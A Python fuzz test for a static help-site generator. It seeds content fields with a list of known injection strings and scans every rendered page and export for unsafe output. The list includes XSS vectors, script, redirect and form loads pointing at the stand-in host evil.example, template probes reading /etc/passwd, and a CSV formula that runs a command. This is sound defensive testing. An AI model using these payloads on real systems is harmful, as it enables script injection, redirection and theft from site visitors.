"""Sites of random texts made of known injections, in every field that holds text; and what of their outputs is unsafe."""

import csv
import io
import json
import random
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

from fault_site import BASE, judged, settings, write_site
from markdown_it import MarkdownIt
from selectolax.lexbor import LexborHTMLParser
from site_driver import api_files, desk_data, engine

from answerbook.exports.targets import TARGETS
from answerbook.pages.feeds import feeds
from answerbook.pages.finished import reply_problems
from answerbook.pages.html import render_html
from answerbook.pipeline import Outcome
from answerbook.publishing.beside import standalone_pages
from answerbook.search.browser_index import index

INJECTIONS = (
    "<script>window.PWN=1;alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>", "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java&#9;script:alert(1))",
    "[x](&#106;avascript:alert(1))", "[x](data:text/html,<script>alert(1)</script>)", "[x](vbscript:msgbox)", "<javascript:alert(1)>",
    "![x](https://evil.example/x.png)", '![x](x" onerror="alert(1))', '[x](https://a.example/" onclick="alert(1))',
    "[x](<https://a.example/ onclick=alert(1)>)", "[a][b]\n\n[b]: javascript:alert(1)", "> [b]: javascript:alert(1)\n\n[a][b]",
    "{onclick=alert(1)}", "{: style=position:fixed }", "``` {onclick=alert(1)}\nx\n```", '```js"onload=alert(1)\nx\n```',
    "<!--><script>alert(1)</script>-->", "<!-- a --!><img src=x onerror=alert(1)>", "--><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</script><script>alert(1)</script>",
    "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>", "<!DOCTYPE x [<!ENTITY a 'b'>]>",
    "</article></main><h1>Fake</h1>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<base href=//evil.example/>",
    "<form action=https://evil.example/><button>x</button></form>", "<style>*{display:none}</style>", "<link rel=stylesheet href=//evil.example/x>",
    "<details open ontoggle=alert(1)>", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<object data=javascript:alert(1)>",
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)",
    "{{ config }}", "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}", "{{constructor.constructor('alert(1)')()}}",
    "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-2+3", "\\u003cscript\\u003e", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;",
    "%3Cscript%3E", "<kbd onclick=alert(1)>x</kbd>", "<kbd>x</kbd>", "<sub><script>x</script></sub>", "<ab-text PHNjcmlwdD4.>",
    "<!-- contents -->", "[TOC]", "[@rules, <script>alert(1)</script>]", '[@rules, "onload=alert(1)]', '[x](faq:alpha#"onclick=alert(1))',
    '[x](faq:alpha "<script>")', "[<script>](faq:beta)", "[x](mailto:a@b.example?subject=<script>)", '[x](tel:+1"onclick=alert(1))',
    'http://a.example/"onmouseover=alert(1)', "www.a.example/<script>", 'a@b.example"onclick=x', "\\`[x](javascript:alert(1))\\`",
    "| a | <script>alert(1)</script> |\n|--|--|\n| `b | c` |", "- [x] <img src=x onerror=alert(1)>", '!!! note "<script>alert(1)</script>"\n    x',
    '??? tip "\\"onclick=alert(1)"\n    x', '=== "<img src=x onerror=alert(1)>"\n    x', "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "Term\n: <script>alert(1)</script>", "## <script>alert(1)</script> {#a}", '## x {#"onclick=alert(1)}', "~~<script>~~", "`<script>alert(1)</script>`",
)  # fmt: skip
PIECES = (
    "a", "b c", " ", "\n", "\n\n", "`", "``", "\n```\n", "\\", "*", "**", "_", "[", "]", "(", ")", "<", ">", '"', "'", "&", "|", "> ", "- ",
    "    ", "1. ", "## ", "![", "](", "[b]", "[b]: https://a.example/", ":", "{", "}", "é", "\u202f", "日本", "<kbd>", "</kbd>", "<br>", "<!--", "-->",
)  # fmt: skip
LOADING = ("href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "cite", "srcset")
FORBIDDEN = {
    "script", "iframe", "object", "embed", "base", "svg", "math", "style", "link", "frame", "applet", "template", "noscript",
}  # fmt: skip
SCHEME = re.compile(r"[\x00-\x20]*([a-z][a-z0-9+.-]*)\s*:", re.IGNORECASE)
HTML = re.compile(r"html|.*_html|body|content_html")
MARKDOWN = re.compile(r"markdown|.*_markdown|markdown_link")


@dataclass
class Tried:
    """What became of the texts of one site: how many were refused, and what is unsafe in the outputs of the others."""

    texts: int
    refused: int
    unsafe: list[str]
    outcome: Outcome


def texts(chance: random.Random) -> str:
    """Return a text of some pieces and one injection or more."""
    parts = [chance.choice(INJECTIONS) for _ in range(chance.randint(1, 2))]
    parts += [chance.choice(PIECES) for _ in range(chance.randint(0, 6))]
    chance.shuffle(parts)
    return "".join(parts)


def answer(chance: random.Random, number: int) -> tuple[str, str]:
    """Return the file of an answer or a guide, one of whose texts is hostile."""
    text, field = texts(chance), chance.choice(FIELDS)
    line = json.dumps(" ".join(text.split())[:300])
    said = {
        "question": json.dumps(f"What is {number}?"),
        "short": '"So."',
        "owner": '"We"',
        "also_asked": f'"Or {number}?"',
    }
    prose = {
        "body": "A body.",
        "correction": "None.",
        "do": "Do it.",
        "see": "It is done.",
        "note": "A note.",
        "before": "Before.",
    }
    if field in said:
        said[field] = line if field != "also_asked" else json.dumps(f"{number} {json.loads(line)}")
    else:
        prose[field] = text
    quoted = {name: json.dumps(value) for name, value in prose.items()}
    head = f"also_asked: [{said['also_asked']}]\nowner: {said['owner']}\nreviewed: 2026-11-01\ncorrection: {quoted['correction']}\n"
    if field in ("do", "see", "note", "before"):
        steps = f"before: {quoted['before']}\nsteps:\n  - do: {quoted['do']}\n    see: {quoted['see']}\n    note: {quoted['note']}\n"
        return f"content/guides/g-{number}.md", f"---\ntitle: {said['question']}\n{head}{steps}---\nDone.\n"
    fields = f"question: {said['question']}\nshort: {said['short']}\n{head}"
    return f"content/faqs/start/x-{number}.md", f"---\n{fields}---\n{prose['body']}\n"


FIELDS = (
    "body",
    "body",
    "body",
    "question",
    "short",
    "owner",
    "also_asked",
    "correction",
    "do",
    "see",
    "note",
    "before",
)


def records(chance: random.Random) -> dict[str, str]:
    """Return files of records, whose texts are hostile and fit to be lines."""

    def line() -> str:
        return json.dumps(" ".join(texts(chance).split())[:300])

    return {
        "content/site.yml": str(BASE["content/site.yml"])
        .replace("title: Help", f"title: {line()}")
        .replace("description: A site for faults", f"description: {line()}\ndisclaimer: {line()}")
        .replace("publisher: We", f"publisher: {line()}"),
        "content/topics.yml": f"start:\n  title: {line()}\n  summary: {line()}\n  order: [alpha, beta]\n",
        "content/sources.yml": str(BASE["content/sources.yml"])
        .replace("The rules", line())
        .replace("publisher: We", f"publisher: {line()}"),
        "content/terms.yml": f"bill:\n  name: {line()}\n  definition: What you pay.\n  also_known_as: [{line()}]\n  reviewed: 2026-11-01\n",
        "content/plans.yml": str(BASE["content/plans.yml"])
        .replace("{title: Price}", f"{{title: {line()}}}")
        .replace("name: Free", f"name: {line()}")
        .replace("It costs nothing.", line()),
    }


def tried(folder: Path, seed: int, number: int) -> Tried:
    """Write and check a site of so many hostile answers, take out what is refused, and look at all that is made of the rest."""
    chance = random.Random(seed)
    write_site(folder)
    files = dict(answer(chance, place) for place in range(number)) | records(chance)
    for name, text in files.items():
        (folder / name).write_text(text, encoding="utf-8")
    refused = 0
    for _ in range(8):
        outcome = judged(folder)
        # What the last look refuses, neither `build` nor `export` makes anything of.
        last = list(reply_problems(outcome.graph)) if outcome.graph else []
        faulty = {one.location.file for one in (*outcome.diagnostics, *last) if one.severity == "error"}
        assert all(one.help and "Traceback" not in one.message for one in outcome.diagnostics)
        for name in faulty:
            refused += 1
            if name in BASE:
                text = BASE[name]
                (folder / name).write_bytes(text.encode() if isinstance(text, str) else text)
            else:
                (folder / name).unlink(missing_ok=True)
        if not faulty:
            break
    return Tried(len(files), refused, list(unsafe_outputs(folder, outcome)) if outcome.ok else ["not sound"], outcome)


def unsafe_outputs(folder: Path, outcome: Outcome) -> Iterator[str]:
    """Yield what is unsafe in the pages, the files for programs, the feeds, the search index and every export."""
    graph, tree, templates = outcome.graph, outcome.tree, settings(folder).parts.templates
    assert graph is not None
    assert tree is not None
    for name, page in tree.files.items():
        if name.endswith(".md"):
            _, _, body = page.partition("\n---\n")
            yield from (f"{name}: {found}" for found in unsafe(engine().reset().convert(body), page=True))
    html, problems = render_html(graph, list(standalone_pages(graph)), templates)
    assert problems == []
    for name, page in html.items():
        yield from (f"{name}: {found}" for found in unsafe(page, page=True))
    made = [api_files(graph), index(graph)[0], feeds(graph, templates)[0], desk_data(graph)]
    made += [{k: v for k, v in TARGETS[target](graph).files.items() if isinstance(v, str)} for target in TARGETS]
    for files in made:
        for name, text in files.items():
            yield from (f"{name}: {found}" for found in unsafe_file(name, str(text)))


def unsafe_file(name: str, text: str) -> Iterator[str]:
    """Yield what is unsafe in a file, by the kind that its name tells."""
    if name.endswith(".jsonl"):
        for line in text.splitlines():
            yield from _unsafe_json(json.loads(line))
    elif name.endswith((".json", ".desk")):
        yield from _unsafe_json(json.loads(text))
    elif name.endswith(".xml"):
        for element in ET.fromstring(text).iter():
            yield from unsafe(element.text or "") if element.get("type") == "html" else ()
    elif name.endswith(".csv"):
        cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
        yield from (f"a formula: {cell[:40]}" for cell in cells if cell.startswith(tuple("=+-@\t\r")))
    elif name.endswith(".html"):
        yield from unsafe(text, page=True)


def _unsafe_json(value: Any, name: str = "") -> Iterator[str]:
    if isinstance(value, dict):
        for key, item in value.items():
            yield from _unsafe_json(item, str(value["field"] if key == "value" and "field" in value else key))
    elif isinstance(value, list):
        for item in value:
            yield from _unsafe_json(item, name)
    elif isinstance(value, str) and HTML.fullmatch(name):
        yield from unsafe(value)
    elif isinstance(value, str) and MARKDOWN.fullmatch(name):
        yield from unsafe(MarkdownIt("commonmark", {"html": True}).render(value))


def unsafe(html: str, *, page: bool = False) -> Iterator[str]:
    """Yield the scripts, handlers, styles, frames and schemes in HTML; the frame of a `page` has some that are its own."""
    for node in LexborHTMLParser(html).css("*"):
        tag, attributes = (node.tag or "").lower(), node.attributes
        is_data = tag == "script" and (
            attributes.get("type") == "application/ld+json" or (page and attributes.get("src"))
        )
        if tag in FORBIDDEN and not is_data and not (page and tag in ("link", "svg")):
            yield f"<{tag}>"
        for name, value in attributes.items():
            if (
                name.startswith("on")
                or name in ("srcdoc", "formaction")
                or (name == "style" and tag not in ("td", "th"))
            ):
                yield f"{name} of <{tag}>"
            found = SCHEME.match(value or "") if name in LOADING else None
            if found and found[1].lower() not in ("http", "https", "mailto", "tel"):
                yield f"{found[0]} in {name} of <{tag}>"
            if name in ("src", "data", "poster") and "evil.example" in (value or ""):
                yield f"{value} in {name} of <{tag}>"
